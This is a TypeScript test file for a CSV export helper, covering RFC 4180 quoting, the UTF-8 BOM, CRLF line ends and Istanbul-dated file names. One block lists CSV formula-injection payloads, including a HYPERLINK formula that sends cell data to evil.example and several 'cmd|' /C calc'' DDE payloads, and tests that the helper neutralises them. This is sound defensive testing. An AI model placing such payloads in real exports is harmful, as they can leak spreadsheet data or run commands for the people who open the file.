import { parseCsv } from '../test/csv.js';
import { csvField, csvFile, istanbulDate, toCsv, UTF8_BOM } from './csv.js';

describe('csvField (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['Işık Çağ ğüşöı', 'Işık Çağ ğüşöı'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r\nlf', '"cr\r\nlf"'],
    [' edge ', '" edge "'],
    ['', ''],
  ])('%j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  // OWASP CSV injection: the security review's probe values (T3-M1) and the other formula starts.
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    [' =1+1', "' =1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['=1+cmd|\'/ccalc\'!a0-x@example.org', "'=1+cmd|'/ccalc'!a0-x@example.org"],
    ['+90 312 000 00 00', "'+90 312 000 00 00"],
  ])('neutralises the formula %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
    expect(parseCsv(`${csvField(value)}\r\n`)).toEqual([[`'${value}`]]);
  });

  it.each(['a=b', 'x@example.org', '0312 555 12 34', 'Ankara - Çankaya', '2026-01-02'])('leaves %j as it is', (value) => {
    expect(csvField(value)).toBe(value);
  });

  it('writes null and undefined as empty, dates as ISO instants', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(new Date('2026-01-02T03:04:05.000Z'))).toBe('2026-01-02T03:04:05.000Z');
  });
});

describe('toCsv', () => {
  it('a BOM, the header row and CRLF line ends; it reads back to the same values', () => {
    const rows = [
      { name: 'Şule "Ş" Öztürk', address: 'Kızılay Mah.\nAnkara, 06420' },
      { name: 'İbrahim', address: '' },
    ];
    const text = toCsv(
      [
        ['name', (row: (typeof rows)[number]) => row.name],
        ['address', (row: (typeof rows)[number]) => row.address],
      ],
      rows,
    );
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    expect(text).toBe(`${UTF8_BOM}name,address\r\n"Şule ""Ş"" Öztürk","Kızılay Mah.\nAnkara, 06420"\r\nİbrahim,\r\n`);
    expect(parseCsv(text.slice(1))).toEqual([['name', 'address'], ['Şule "Ş" Öztürk', 'Kızılay Mah.\nAnkara, 06420'], ['İbrahim', '']]);
  });

  it('no rows: the header alone', () => {
    expect(toCsv([['email', (row: { email: string }) => row.email]], [])).toBe(`${UTF8_BOM}email\r\n`);
  });
});

describe('file names', () => {
  it('carry the day in Istanbul (UTC+3): 21:30 UTC is already the next day there', () => {
    expect(istanbulDate(new Date('2026-11-23T21:30:00Z'))).toBe('2026-11-24');
    expect(istanbulDate(new Date('2026-11-23T20:59:59Z'))).toBe('2026-11-23');
    expect(csvFile('shipping-list', [], [], new Date('2026-11-23T12:00:00Z'))).toEqual({
      filename: 'shipping-list-2026-11-23.csv',
      contentType: 'text/csv; charset=utf-8',
      content: `${UTF8_BOM}\r\n`,
    });
  });
});
